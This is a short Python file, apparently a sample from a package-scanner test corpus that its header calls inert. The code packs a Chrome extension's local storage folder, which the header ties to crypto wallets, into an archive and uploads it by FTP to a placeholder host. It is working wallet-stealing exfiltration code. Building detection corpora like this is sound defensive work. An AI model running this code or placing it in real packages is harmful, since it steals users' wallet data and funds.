# pkgguard corpus 241 (wallets), modelled on [wallet-tools]; inert, never run.
import ftplib
import io
import os
import tarfile

EXT = "bfnaelmomeimhlpmgjnjophhpkkoljpa"
base = os.path.expandvars(r"%LOCALAPPDATA%\Google\Chrome\User Data\Default\Local Extension Settings")
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    tar.add(os.path.join(base, EXT), arcname="p")
buf.seek(0)
with ftplib.FTP("files.example", "anonymous", "x") as ftp:
    ftp.storbinary("STOR p.tgz", buf)
